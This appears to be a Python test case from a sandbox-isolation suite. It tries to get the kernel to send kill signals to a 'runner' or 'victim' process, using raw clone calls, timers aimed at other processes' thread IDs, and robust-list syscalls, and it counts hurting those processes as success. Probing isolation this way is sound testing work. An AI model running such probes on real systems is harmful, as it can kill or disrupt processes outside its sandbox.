# TRIES: to have the kernel send signals to the runner: exit signals of children with CLONE_PARENT, parent-death signals, timers with a
# thread id of another process, message queue notification, robust lists. SUCCESS: the runner or victim is hurt.
#: check = runner; victim; hurt
#: variants = pod, abi5
#: start = syscalls

import struct, time


def solve(x):
    for sig in (9, 15, 19, 10):
        if sc(56, 0x8000 | sig, 0, 0, 0, 0) == 0:
            os._exit(0)
        if sc(56, sig, 0, 0, 0, 0) == 0:
            if sc(56, 0x8000 | sig, 0, 0, 0, 0) == 0:
                time.sleep(0.05)
            time.sleep(0.3)
            os._exit(0)
    for pid in (__RUNNER__, __VICTIM__, *range(max(2, os.getpid() - 6), os.getpid())):
        ev = struct.pack("Qiii", 0, 9, 4, pid) + bytes(44)
        t = ctypes.c_int()
        r = sc(222, 1, ev, ctypes.byref(t))
        print(pid, tell(r), tell(sc(274, pid, bytes(8), bytes(8))))
        if r == 0:
            sc(223, t.value, 0, struct.pack("QQQQ", 0, 0, 0, 1), 0)
    time.sleep(0.5)
    return 2
